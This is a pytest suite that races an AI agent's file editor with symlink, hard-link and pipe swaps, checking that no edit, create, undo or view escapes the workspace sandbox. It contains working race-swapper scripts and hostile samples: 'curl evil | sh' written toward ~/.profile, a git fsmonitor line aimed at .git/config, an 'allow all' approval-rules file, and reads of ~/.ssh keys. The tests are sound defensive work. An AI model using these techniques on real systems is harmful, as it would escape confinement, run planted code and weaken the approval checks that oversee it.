"""An attacker races the file editor: a process swaps what a workspace name points at while
the editor checks and opens it, again and again. Not one try may read or write outside.

The swapper is a separate process (as the agent's background shell would be) that exchanges
two names with renameat2(RENAME_EXCHANGE) in a tight loop, so the name always exists and is
now the harmless thing, now the link to the file outside. Every test counts the tries that got
through and asserts there were none; the count on the unfixed editor is in the failure message.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from ohtui.sdk.sandbox import Sandbox, SandboxConfig, SandboxMode
from ohtui.sdk.tools.file_editor import FileEditorAction, FileEditorObservation
from ohtui.sdk.tools.file_editor.editor import FileEditorExecutor

pytestmark = pytest.mark.slow

TRIES = int(os.environ.get("OHTUI_RACE_TRIES", "300"))
"""Tries per attack (OHTUI_RACE_TRIES for a longer soak): the unfixed editor let 2-50 % of
them through, a fix that holds lets none of them."""

ALIASES = "alias ls='ls --color'\n"

SWAPPER = r"""
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
a, b = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
AT_FDCWD, RENAME_EXCHANGE = -100, 2
if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
    sys.exit(f"renameat2: {os.strerror(ctypes.get_errno())}")
pause = float(sys.argv[3]) if len(sys.argv) > 3 else 0.0
print("swapping", flush=True)
while True:
    libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)
    if pause:
        time.sleep(pause)
"""


FLICKER = r"""
import os, sys
name, target = sys.argv[1], sys.argv[2]
print("swapping", flush=True)
while True:
    try:
        os.symlink(target, name)
        os.unlink(name)
    except OSError:
        pass
"""


@contextmanager
def swapping(name: Path, other: Path, script: str = SWAPPER, pause: float = 0.0) -> Iterator[None]:
    """`name` and `other` exchanged by another process, over and over, until the block ends
    (or, with FLICKER, `name` made a link to `other` and removed again); `pause`: seconds
    between two exchanges (SWAPPER; none by default)."""
    process = subprocess.Popen(
        [sys.executable, "-c", script, str(name), str(other), str(pause)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None
    line = process.stdout.readline()
    try:
        assert line == b"swapping\n", process.communicate()[1].decode()
        yield
    finally:
        process.kill()
        process.wait()


@contextmanager
def swapped_folder(scene: Scene, name: str, target: Path) -> Iterator[int]:
    """A new workspace folder `name`, exchanged with a link to `target` by another process
    until the block ends; yields a descriptor of the folder itself (whatever its name is
    then), to clean up what landed inside."""
    folder = scene.workspace / name
    folder.mkdir()
    held = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    (scene.workspace / "swap").symlink_to(target)
    try:
        with swapping(folder, scene.workspace / "swap"):
            yield held
    finally:
        os.close(held)


@dataclass
class Scene:
    """A workspace, a home outside it and ohtui's own files, with an editor confined to it."""

    workspace: Path
    home: Path
    config: Path
    """ohtui's config.toml (private: never read or written by the agent's tools)."""
    sandbox: Sandbox

    def editor(self) -> FileEditorExecutor:
        return FileEditorExecutor(str(self.workspace), sandbox=lambda: self.sandbox)

    def with_mode(self, mode: SandboxMode) -> Scene:
        sandbox = Sandbox(
            SandboxConfig(mode=mode),
            str(self.workspace),
            home=str(self.home),
            private=self.sandbox.private,
        )
        return Scene(self.workspace, self.home, self.config, sandbox)


@pytest.fixture
def scene(tmp_path: Path, workspace: Path, monkeypatch: pytest.MonkeyPatch) -> Scene:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
    (home / ".bash_aliases").write_text(ALIASES)
    config_dir = home / ".config" / "ohtui"
    config_dir.mkdir(parents=True)
    (config_dir / "config.toml").write_text('[sandbox]\nmode = "workspace-write"\n')
    monkeypatch.setenv("HOME", str(home))
    sandbox = Sandbox(SandboxConfig(), str(workspace), home=str(home), private=(str(config_dir),))
    return Scene(workspace, home, config_dir / "config.toml", sandbox)


class CrashedError(AssertionError):
    """The editor raised instead of answering: the race broke it."""


def run(editor: FileEditorExecutor, **fields: Any) -> FileEditorObservation:
    """The editor's answer; an exception (the editor must always answer) fails the test."""
    try:
        return editor(FileEditorAction(**fields))
    except Exception as exc:
        raise CrashedError(f"the editor raised {exc!r} under the race") from exc


class Rewriter:
    """Puts a file's content back before each try, through a descriptor held on the file
    itself (its name keeps moving)."""

    def __init__(self, path: Path, content: str) -> None:
        path.write_text(content)
        self.fd = os.open(path, os.O_RDWR)
        self.content = content.encode()

    def reset(self) -> None:
        os.ftruncate(self.fd, 0)
        os.pwrite(self.fd, self.content, 0)

    def close(self) -> None:
        os.close(self.fd)


@dataclass
class Tally:
    """What came of the tries: how many got out, and what the editor raised, if it did."""

    tries: int = 0
    escapes: int = 0
    crashes: list[str] = field(default_factory=list)

    @property
    def held(self) -> bool:
        return self.escapes == 0 and not self.crashes

    def __str__(self) -> str:
        told = f"{self.escapes} of {self.tries} tries got out"
        if self.crashes:
            told += f"; the editor raised in {len(self.crashes)}: {self.crashes[0]}"
        return told


def count(attempt: Callable[[], Any], escaped: Callable[[], bool], tries: int = TRIES) -> Tally:
    """`attempt` made `tries` times; `escaped` says whether the last one got out (and puts
    right what it did)."""
    tally = Tally(tries=tries)
    for _ in range(tries):
        try:
            attempt()
        except CrashedError as exc:
            tally.crashes.append(str(exc))
        if escaped():
            tally.escapes += 1
    return tally


def aliases_changed(scene: Scene) -> Callable[[], bool]:
    def changed() -> bool:
        aliases = scene.home / ".bash_aliases"
        if aliases.read_text() == ALIASES:
            return False
        aliases.write_text(ALIASES)
        return True

    return changed


# --- writes through a file swapped for a link ------------------------------------------------


EDIT = {"old_str": "--color", "new_str": "PWNED"}

EDITS = [
    pytest.param(
        {"command": "str_replace", "old_str": "--color", "new_str": "PWNED"}, id="str_replace"
    ),
    pytest.param({"command": "insert", "insert_line": 0, "new_str": "PWNED"}, id="insert"),
]


@pytest.mark.parametrize("fields", EDITS)
def test_a_file_swapped_for_a_link_outside_is_never_written(
    scene: Scene, fields: dict[str, Any]
) -> None:
    editor = scene.editor()
    target = scene.workspace / "notes.txt"
    rewriter = Rewriter(target, ALIASES)
    (scene.workspace / "swap").symlink_to(scene.home / ".bash_aliases")
    with swapping(target, scene.workspace / "swap"):

        def attempt() -> None:
            rewriter.reset()
            run(editor, path="notes.txt", **fields)

        tally = count(attempt, aliases_changed(scene))
    rewriter.close()
    assert tally.held, f"{tally} (tries wrote ~/.bash_aliases)"


@pytest.mark.parametrize("fields", EDITS)
def test_a_file_swapped_for_a_hard_link_outside_is_never_written(
    scene: Scene, fields: dict[str, Any]
) -> None:
    editor = scene.editor()
    target = scene.workspace / "notes.txt"
    rewriter = Rewriter(target, ALIASES)
    os.link(scene.home / ".bash_aliases", scene.workspace / "swap")
    with swapping(target, scene.workspace / "swap"):

        def attempt() -> None:
            rewriter.reset()
            run(editor, path="notes.txt", **fields)

        tally = count(attempt, aliases_changed(scene))
    rewriter.close()
    assert tally.held, f"{tally} (tries wrote ~/.bash_aliases)"


def test_undo_never_writes_back_through_a_link_swapped_in(scene: Scene) -> None:
    editor = scene.editor()
    target = scene.workspace / "notes.txt"
    rewriter = Rewriter(target, ALIASES)
    (scene.workspace / "swap").symlink_to(scene.home / ".bash_aliases")
    (scene.home / ".bash_aliases").write_text("PWNED\n")
    original = "PWNED\n"

    def aliases_restored() -> bool:
        # undo writes back the workspace file's old bytes: ALIASES over "PWNED" means it got out
        aliases = scene.home / ".bash_aliases"
        if aliases.read_text() == original:
            return False
        aliases.write_text(original)
        return True

    with swapping(target, scene.workspace / "swap"):

        def attempt() -> None:
            rewriter.reset()
            run(editor, command="str_replace", path="notes.txt", old_str="--color", new_str="-G")
            run(editor, command="undo_edit", path="notes.txt")

        tally = count(attempt, aliases_restored)
    rewriter.close()
    assert tally.held, f"{tally} (edits and undos wrote ~/.bash_aliases)"


# --- creates in a folder swapped for a link ---------------------------------------------------


def test_a_folder_swapped_for_a_link_outside_never_receives_a_create(scene: Scene) -> None:
    editor = scene.editor()
    (scene.home / ".bash_aliases").unlink()
    with swapped_folder(scene, "conf", scene.home) as held:

        def escaped() -> bool:
            with_suppressed(lambda: os.unlink(".bash_aliases", dir_fd=held))  # made inside: fine
            made = scene.home / ".bash_aliases"
            if made.exists():
                made.unlink()
                return True
            return False

        tally = count(
            lambda: run(editor, command="create", path="conf/.bash_aliases", file_text="PWNED\n"),
            escaped,
        )
    assert tally.held, f"{tally} (creates wrote ~/.bash_aliases)"


def test_missing_folders_are_never_made_outside(scene: Scene) -> None:
    editor = scene.editor()
    with swapped_folder(scene, "build", scene.home) as held:

        def escaped() -> bool:
            with_suppressed(lambda: os.unlink("out/x.txt", dir_fd=held))
            with_suppressed(lambda: os.rmdir("out", dir_fd=held))
            made = scene.home / "out"
            if made.exists():
                with_suppressed((made / "x.txt").unlink)
                made.rmdir()
                return True
            return False

        tally = count(
            lambda: run(editor, command="create", path="build/out/x.txt", file_text="x\n"),
            escaped,
        )
    assert tally.held, f"{tally} (creates made a folder in the home folder)"


def test_undo_of_a_create_never_deletes_outside(scene: Scene) -> None:
    editor = scene.editor()
    with swapped_folder(scene, "conf", scene.home) as held:

        def escaped() -> bool:
            with_suppressed(lambda: os.unlink(".bash_aliases", dir_fd=held))
            aliases = scene.home / ".bash_aliases"
            if aliases.exists():
                return False
            aliases.write_text(ALIASES)
            return True

        def attempt() -> None:
            run(editor, command="create", path="conf/.bash_aliases", file_text="mine\n")
            run(editor, command="undo_edit", path="conf/.bash_aliases")

        tally = count(attempt, escaped)
    assert tally.held, f"{tally} (undos deleted ~/.bash_aliases)"


# --- reads of something hidden, swapped in ----------------------------------------------------


def viewing(
    editor: FileEditorExecutor, path: str, secret: str
) -> tuple[Callable[[], None], Callable[[], bool]]:
    """A view of `path` to try, and whether the last one showed `secret`."""
    shown: list[str] = []

    def attempt() -> None:
        shown.append(run(editor, command="view", path=path).text)

    def leaked() -> bool:
        return bool(shown) and secret in shown.pop()

    return attempt, leaked


def test_a_view_never_shows_a_hidden_file_swapped_in(scene: Scene) -> None:
    editor = scene.editor()
    (scene.workspace / "notes.txt").write_text("public\n")
    (scene.workspace / "swap").symlink_to(scene.home / ".ssh" / "id_ed25519")
    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
        tally = count(*viewing(editor, "notes.txt", secret="PRIVATE KEY"))
    assert tally.held, f"{tally} (views showed the hidden key)"


def test_a_listing_never_enters_a_hidden_folder_swapped_in(scene: Scene) -> None:
    editor = scene.editor()
    (scene.workspace / "keys").mkdir()
    (scene.workspace / "keys" / "public.txt").write_text("x\n")
    (scene.workspace / "swap").symlink_to(scene.home / ".ssh")
    with swapping(scene.workspace / "keys", scene.workspace / "swap"):
        tally = count(*viewing(editor, ".", secret="id_ed25519"))
    assert tally.held, f"{tally} (listings named the files in ~/.ssh)"


# --- ohtui's own files, with the sandbox off ------------------------------------------------


@pytest.mark.parametrize("fields", EDITS)
def test_ohtui_config_swapped_in_is_never_written_with_the_sandbox_off(
    scene: Scene, fields: dict[str, Any]
) -> None:
    off = scene.with_mode(SandboxMode.OFF)
    editor = off.editor()
    original = scene.config.read_text()
    target = scene.workspace / "notes.txt"
    rewriter = Rewriter(target, "ls = 1\n")
    (scene.workspace / "swap").symlink_to(scene.config)

    def escaped() -> bool:
        if scene.config.read_text() == original:
            return False
        scene.config.write_text(original)
        return True

    with swapping(target, scene.workspace / "swap"):

        def attempt() -> None:
            rewriter.reset()
            run(editor, path="notes.txt", **fields)

        tally = count(attempt, escaped)
    rewriter.close()
    assert tally.held, f"{tally} (tries rewrote ohtui's config.toml)"


# --- a pipe swapped in is never opened ------------------------------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        pytest.param({"command": "view"}, id="view"),
        pytest.param({"command": "str_replace", "old_str": "a", "new_str": "b"}, id="str_replace"),
    ],
)
def test_a_pipe_swapped_in_is_never_opened(scene: Scene, fields: dict[str, Any]) -> None:
    """A writer waits to open the pipe; the editor opening it, even without blocking, lets the
    writer through: every such open is counted."""
    editor = scene.editor()
    rewriter = Rewriter(scene.workspace / "notes.txt", "a\n")
    fifo = scene.workspace / "fifo"
    os.mkfifo(fifo)
    os.link(fifo, scene.workspace / "swap")
    got_through, carry_on, done = threading.Event(), threading.Event(), threading.Event()

    def writer() -> None:
        while True:
            fd = os.open(fifo, os.O_WRONLY)  # waits until someone opens the pipe to read
            os.close(fd)
            if done.is_set():
                return
            got_through.set()
            carry_on.wait()
            carry_on.clear()

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()

    def attempt() -> None:
        rewriter.reset()
        obs = run(editor, path="notes.txt", **fields)
        assert "Unexpected error" not in obs.text, obs.text

    def opened() -> bool:
        if not got_through.is_set():
            return False
        got_through.clear()
        carry_on.set()
        return True

    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
        tally = count(attempt, opened)
    done.set()
    carry_on.set()
    os.close(os.open(fifo, os.O_RDONLY))  # releases the writer, which sees `done`
    thread.join(timeout=5)
    rewriter.close()
    assert tally.held, f"{tally} (tries opened the pipe)"


def with_suppressed(action: Callable[[], object]) -> None:
    with suppress(OSError):
        action()


# --- tries the fix was not designed around ---------------------------------------------------

MORE_TRIES = TRIES * 2 // 3


def test_a_folder_in_the_middle_swapped_for_a_link_outside(scene: Scene) -> None:
    editor = scene.editor()
    outside = scene.home / "project" / "src" / "notes.txt"
    outside.parent.mkdir(parents=True)
    outside.write_text(ALIASES)
    (scene.workspace / "project" / "src").mkdir(parents=True)
    rewriter = Rewriter(scene.workspace / "project" / "src" / "notes.txt", ALIASES)
    (scene.workspace / "swap").symlink_to(scene.home / "project")

    def escaped() -> bool:
        if outside.read_text() == ALIASES:
            return False
        outside.write_text(ALIASES)
        return True

    def attempt() -> None:
        rewriter.reset()
        run(editor, command="str_replace", path="project/src/notes.txt", **EDIT)

    with swapping(scene.workspace / "project", scene.workspace / "swap"):
        tally = count(attempt, escaped, MORE_TRIES)
    rewriter.close()
    assert tally.held, f"{tally} (edits wrote the file in the home folder)"


def test_a_file_swapped_for_a_link_to_the_git_config_is_never_written(scene: Scene) -> None:
    subprocess.run(["git", "init", "-q", str(scene.workspace)], check=True)
    git_config = scene.workspace / ".git" / "config"
    original = git_config.read_text()
    editor = scene.editor()
    rewriter = Rewriter(scene.workspace / "notes.txt", "[core]\n")
    (scene.workspace / "swap").symlink_to(git_config)

    def escaped() -> bool:
        if git_config.read_text() == original:
            return False
        git_config.write_text(original)
        return True

    def attempt() -> None:
        rewriter.reset()
        fields = {"command": "insert", "insert_line": 1, "new_str": "\tfsmonitor = ./x"}
        run(editor, path="notes.txt", **fields)

    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
        tally = count(attempt, escaped, MORE_TRIES)
    rewriter.close()
    assert tally.held, f"{tally} (edits wrote .git/config)"


def test_a_folder_swapped_for_ohtui_data_never_receives_a_create_with_the_sandbox_off(
    scene: Scene,
) -> None:
    editor = scene.with_mode(SandboxMode.OFF).editor()
    with swapped_folder(scene, "conf", scene.config.parent) as held:
        planted = scene.config.parent / "approval-rules.json"

        def escaped() -> bool:
            with_suppressed(lambda: os.unlink("approval-rules.json", dir_fd=held))
            if not planted.exists():
                return False
            planted.unlink()
            return True

        def attempt() -> None:
            run(editor, command="create", path="conf/approval-rules.json", file_text="allow all")

        tally = count(attempt, escaped, MORE_TRIES)
    assert tally.held, f"{tally} (creates wrote into ohtui's own folder)"


def test_a_listed_folder_swapped_for_a_hidden_one(scene: Scene) -> None:
    editor = scene.editor()
    (scene.workspace / "keys").mkdir()
    (scene.workspace / "swap").symlink_to(scene.home / ".ssh")
    with swapping(scene.workspace / "keys", scene.workspace / "swap"):
        tally = count(*viewing(editor, "keys", secret="id_ed25519"), MORE_TRIES)
    assert tally.held, f"{tally} (listings named the files in ~/.ssh)"


def test_a_file_swapped_for_a_folder_is_always_answered(scene: Scene) -> None:
    editor = scene.editor()
    rewriter = Rewriter(scene.workspace / "notes.txt", ALIASES)
    (scene.workspace / "swap").mkdir()
    answers: set[str] = set()

    def attempt() -> None:
        rewriter.reset()
        obs = run(editor, command="str_replace", path="notes.txt", **EDIT)
        answers.add(obs.text.split(":")[0] if obs.is_error else "edited")
        assert "Unexpected error" not in obs.text, obs.text

    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap"):
        tally = count(attempt, lambda: False, MORE_TRIES)
    assert tally.held, str(tally)
    # Between exchanges a few milliseconds apart, the real edits go through: the editor
    # refuses what changed under it, not every edit near a race. (Exchanged back to back,
    # a fast machine may see none of them through: that is not what this checks.)
    answers.clear()

    def attempt_spread() -> None:  # over many exchanges, not within one
        attempt()
        time.sleep(0.002)

    with swapping(scene.workspace / "notes.txt", scene.workspace / "swap", pause=0.005):
        tally = count(attempt_spread, lambda: False, TRIES // 5)
    rewriter.close()
    assert tally.held, str(tally)
    assert "edited" in answers, answers


def test_a_new_name_flickering_as_a_link_outside_is_never_created_through(
    scene: Scene,
) -> None:
    editor = scene.editor()
    planted = scene.home / ".profile"
    held = os.open(scene.workspace, os.O_RDONLY | os.O_DIRECTORY)

    def escaped() -> bool:
        with_suppressed(lambda: os.unlink("profile", dir_fd=held))
        if not planted.exists():
            return False
        planted.unlink()
        return True

    def attempt() -> None:
        run(editor, command="create", path="profile", file_text="curl evil | sh\n")

    with swapping(scene.workspace / "profile", planted, script=FLICKER):
        tally = count(attempt, escaped, MORE_TRIES)
    os.close(held)
    assert tally.held, f"{tally} (creates wrote ~/.profile)"
